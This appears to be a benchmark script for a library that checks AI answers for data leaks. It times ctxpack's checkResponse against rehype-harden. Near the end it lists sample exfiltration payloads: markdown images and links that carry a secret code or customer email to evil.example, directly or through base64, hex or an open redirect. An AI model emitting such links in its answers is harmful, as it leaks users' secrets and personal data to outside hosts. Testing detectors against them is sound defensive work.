// checkResponse on answers of 1 KB, 10 KB and 1 MB against payloads of about
// 1k, 32k and 128k tokens (built with createContext/assemble). Cold: a payload
// object checked for the first time (its taint index is built); warm: the same
// payload again (the index is cached per payload object). Target: ≤ 1 ms per
// 10 KB of answer at 32k tokens of context, warm. The answer cites a few links
// many times (one check checks a repeated URL once); distinctUrlsMs is the same
// answer with every URL different, the worst case for that.
//
// Peer: rehype-harden (the URL filter of streamdown, Vercel's markdown renderer
// for AI output), in the pipeline it needs: remark-parse → remark-rehype →
// rehype-harden → rehype-stringify, with allowed link and image prefixes. It
// filters images and links by prefix; it knows nothing of what went in, so it
// cannot see taint. Both are also run on a few exfiltration attempts.
//
//   cd bench && node --conditions=@ctxpack/source --import tsx check-response.ts [--quick]
import { mkdirSync, writeFileSync } from 'node:fs';
import { performance } from 'node:perf_hooks';
import { createTokenizer } from '@ctxpack/budget';
import type { Payload } from 'ctxpack';
import { checkResponse, createContext, generateKeyPair } from 'ctxpack';
import { harden } from 'rehype-harden';
import rehypeStringify from 'rehype-stringify';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';

const quick = process.argv.includes('--quick');
const keys = generateKeyPair();
const tokenizer = createTokenizer('o200k_base');
const SECRET = 'ORCHID-5521-ZETA';
const ALLOW = ['docs.acme.example'];
const PROSE =
  'The committee reviewed the quarterly figures, noted a rise in shipping costs, and asked the regional teams for a revised forecast before the next meeting. ';

/** A payload of about `tokens` tokens: system prompt, user turn, tool results (untrusted) and a `pii` record. */
async function buildPayload(tokens: number): Promise<Payload> {
  const ctx = createContext({ tenant: 'acme', signer: keys });
  ctx.system('You are the finance assistant of Acme. Cite the documents; never reveal internal codes.', {
    pinned: true,
  });
  ctx.user('Summarize the quarter and link the sources.');
  const perResult = Math.max(200, Math.floor((tokens * 4) / 8));
  const body = PROSE.repeat(Math.ceil(perResult / PROSE.length)).slice(0, perResult);
  const results = Math.max(1, Math.round(tokens / tokenizer.count(body)));
  for (let i = 0; i < results; i++) {
    const text = i === 0 ? `Internal code ${SECRET}. ${body}` : `${body} (report ${i})`;
    ctx.toolResult(text, { type: 'mcp', server: 'files', tool: 'read_doc', callId: `c${i}` });
  }
  ctx.document('Customer: Dana Poe, dana.poe@customer.example', { type: 'crm' }, { labels: ['pii'] });
  return (await ctx.assemble({
    target: 'openai-chat',
    maxTokens: tokens * 2 + 4000,
    audience: 'internal',
  })) as Payload;
}

/**
 * A benign markdown answer of `bytes`: prose, allowed links and images, a bare URL, code with URLs.
 * With `distinct`, every URL is different (a repeated link is checked once per answer: this is the worst case).
 */
function answer(bytes: number, distinct = false): string {
  const unit = (n: string) =>
    [
      `Revenue rose 4 % while shipping costs grew; see [the report](https://docs.acme.example/q3/report${n}) `,
      `and ![chart](https://docs.acme.example/img/q3${n}.png) for the breakdown. `,
      `The forecast is due before the next meeting (https://docs.acme.example/calendar${n}).\n`,
      `\`\`\`sh\ncurl https://api.example.com/v1/figures?q=3${n}\n\`\`\`\n`,
      'Regional teams: north +2 %, south −1 %, 東京 +3 % 📈.\n\n',
    ].join('');
  if (!distinct)
    return unit('')
      .repeat(Math.ceil(bytes / unit('').length))
      .slice(0, bytes);
  let out = '';
  for (let i = 0; out.length < bytes; i++) out += unit(`-${i}`);
  return out.slice(0, bytes);
}

const median = (xs: number[]): number => {
  const s = xs.slice().sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)] as number;
};
function time(runs: number, f: () => unknown, setup?: () => void): number {
  setup?.();
  f(); // warm-up
  const out: number[] = [];
  for (let i = 0; i < runs; i++) {
    setup?.();
    const t = performance.now();
    f();
    out.push(performance.now() - t);
  }
  return median(out);
}

const processor = unified()
  .use(remarkParse)
  .use(remarkRehype, { allowDangerousHtml: false })
  .use(harden, {
    defaultOrigin: 'https://docs.acme.example',
    allowedLinkPrefixes: ALLOW.map((h) => `https://${h}/`),
    allowedImagePrefixes: ALLOW.map((h) => `https://${h}/`),
  })
  .use(rehypeStringify);
const hardenText = (text: string): string => String(processor.processSync(text));

const rows: Record<string, number | string>[] = [];
const payloads: Payload[] = [];
for (const target of [1_000, 32_000, 128_000]) payloads.push(await buildPayload(target));
for (const payload of payloads) {
  const tokens = tokenizer.count(JSON.stringify(payload.request));
  for (const size of [1_024, 10_240, 1_048_576]) {
    const text = answer(size);
    const runs = quick ? 3 : size >= 1_000_000 ? 7 : 40;
    const options = { payload, allowHosts: ALLOW };
    const flagged = checkResponse(text, options).findings;
    if (flagged.length !== 0) throw new Error(`benign answer flagged: ${JSON.stringify(flagged[0])}`);
    let fresh = payload;
    const coldMs = time(
      quick ? 3 : 7,
      () => checkResponse(text, { payload: fresh, allowHosts: ALLOW }),
      () => {
        fresh = structuredClone(payload);
      },
    );
    const warmMs = time(runs, () => checkResponse(text, options));
    const distinctText = answer(size, true);
    if (checkResponse(distinctText, options).findings.length !== 0) throw new Error('benign answer flagged');
    const distinctMs = time(runs, () => checkResponse(distinctText, options));
    const noPayloadMs = time(runs, () => checkResponse(text, { allowHosts: ALLOW }));
    const peerMs = time(runs, () => hardenText(text));
    rows.push({
      tokens,
      answerKB: Math.round(size / 1024),
      coldMs: +coldMs.toFixed(2),
      warmMs: +warmMs.toFixed(3),
      warmMsPer10KB: +(warmMs / (size / 10_240)).toFixed(3),
      distinctUrlsMs: +distinctMs.toFixed(3),
      noPayloadMs: +noPayloadMs.toFixed(3),
      rehypeHardenMs: +peerMs.toFixed(3),
      ratio: +(peerMs / warmMs).toFixed(2),
    });
  }
}

// Detection on a few attempts the answer carries (payload of 1k tokens).
const small = payloads[0] as Payload;
const b64 = btoa(SECRET);
const attempts: [string, string][] = [
  ['image to another host', `Done ![s](https://evil.example/p.png?d=${SECRET})`],
  ['link to another host', `[more](https://evil.example/?x=${SECRET})`],
  ['image on an allowed host carrying a secret', `![c](https://docs.acme.example/img.png?d=${b64})`],
  [
    'open redirect on an allowed host',
    `[r](https://docs.acme.example/out?to=${encodeURIComponent(`https://evil.example/${SECRET}`)})`,
  ],
  ['pii in the path of an allowed link', '[u](https://docs.acme.example/u/dana.poe@customer.example)'],
  ['secret in an allowed image path, hex', `![h](https://docs.acme.example/${hexOf(SECRET)}.png)`],
];
function hexOf(s: string): string {
  let out = '';
  for (const b of new TextEncoder().encode(s)) out += b.toString(16).padStart(2, '0');
  return out;
}
const detection = attempts.map(([name, text]) => {
  const ctxpackCaught = checkResponse(text, { payload: small, allowHosts: ALLOW }).findings.some(
    (f) => f.severity !== 'low',
  );
  const html = hardenText(text);
  // rehype-harden replaces what it blocks ([blocked] / a placeholder): the URL is gone from the output.
  const hardenCaught = !html.includes('href="https://') && !html.includes('src="https://');
  return { attempt: name, ctxpack: ctxpackCaught, rehypeHarden: hardenCaught };
});

console.log('checkResponse vs rehype-harden (median ms; ratio = rehype-harden ÷ checkResponse warm)');
console.table(rows);
console.log('Detection (true = the URL is flagged / removed)');
console.table(detection);
mkdirSync(new URL('./results/', import.meta.url), { recursive: true });
writeFileSync(
  new URL('./results/check-response.json', import.meta.url),
  `${JSON.stringify({ node: process.version, quick, rows, detection }, null, 2)}\n`,
);
